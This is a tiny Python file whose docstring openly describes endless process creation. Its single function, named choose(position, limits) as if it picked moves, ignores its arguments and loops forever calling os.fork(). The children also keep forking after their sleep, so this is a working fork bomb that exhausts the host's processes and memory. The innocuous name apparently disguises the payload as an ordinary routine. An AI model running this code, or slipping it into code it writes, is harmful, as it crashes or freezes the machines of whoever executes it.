"""Starts processes without end; each of them sleeps."""

import os
import time


def choose(position, limits):
    while True:
        if os.fork() == 0:
            time.sleep(600)
        time.sleep(0.001)
